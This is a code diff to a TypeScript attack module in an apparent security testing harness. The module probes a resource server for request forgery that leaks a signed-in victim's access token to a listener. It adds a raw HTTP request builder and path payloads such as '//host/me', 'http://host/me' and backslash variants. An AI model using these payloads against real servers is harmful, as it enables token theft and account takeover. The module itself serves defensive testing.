@@ -1,3 +1,4 @@
+import type { HttpRequest } from '../../exchange.ts';
 import type { Attack, Judgement } from '../../kinds/attack.ts';
 import { type Attempt, judgeAttempts } from '../../kit/evidence/attempts.ts';
 import { readCompact } from '../../kit/tokens/compact-token.ts';
@@ -23,7 +24,7 @@ export default {
   references: ['CWE-918', 'CWE-441', 'RFC 10017 §6.1', 'RFC 3986 §5.2.2', 'ASVS 1.3.6'],
   steps: [
     'The victim signs in. The attacker listens on a loopback port, and a script of theirs asks in the page of the victim, or a link does.',
-    'It asks for paths that become another host where they are joined with the address of the resource server: with two slashes, backslashes, an at sign; and for one with the address in a parameter or in the path.',
+    'It asks for paths that become another host where they are joined with the address of the resource server: with two slashes, backslashes, an at sign, a whole address; and for one with the address in a parameter or in the path.',
     'It asks for paths that are on the list once they are resolved, and not as they stand.',
     'The tokens that reached the listener are read, and whom the answers speak for.',
   ],
@@ -39,14 +40,21 @@ export default {
     const before = await isListed();
     const request = stage.request('me', { as: held });
     const attempts: Attempt[] = [];
-    for (const path of [...elsewhere(new URL(listener.url).host), ...unlisted(request.path)]) {
+    const resolved = unlisted(request.path);
+    for (const path of [...elsewhere(new URL(listener.url).host), ...resolved]) {
       const known = listener.authorizations().length;
-      const { status, subject } = await stage.send({ ...request, path }, { step: 'me' });
+      // as it stands: clients resolve what they are asked for
+      const { statuses, text } = await stage.raw(bytes({ ...request, path }));
+      const [status = 0] = statuses;
       const token = listener
         .authorizations()
         .slice(known)
         .find((sent) => speaksFor(sent, stage));
-      const isAnswered = stage.target.protocol.steps.me.ok.includes(status) && subject === victim.id;
+      // a whole address is the server's own way to be asked for a path (RFC 9112 §3.2.2)
+      const isAnswered =
+        resolved.includes(path) &&
+        stage.target.protocol.steps.me.ok.includes(status) &&
+        text.includes(`"${victim.id}"`);
       const got = token ? 'the access token of the victim' : isAnswered && 'an answer for the victim';
       attempts.push({ way: shown(path, listener.url), status, ...(got && { got }) });
     }
@@ -68,10 +76,16 @@ export default {
   },
 } satisfies Attack<Seen>;
 
+function bytes({ method, path, headers }: HttpRequest): string {
+  const lines = Object.entries({ ...headers, connection: 'close' }).map(([name, value]) => `${name}: ${value}\r\n`);
+  return `${method} ${path} HTTP/1.1\r\n${lines.join('')}\r\n`;
+}
+
 /** Paths that are another host's where somebody joins addresses, or takes one from a parameter. */
 function elsewhere(host: string): string[] {
   return [
     `//${host}/me`,
+    `http://${host}/me`,
     `///${host}/me`,
     `/\\${host}/me`,
     `/%5c${host}/me`,
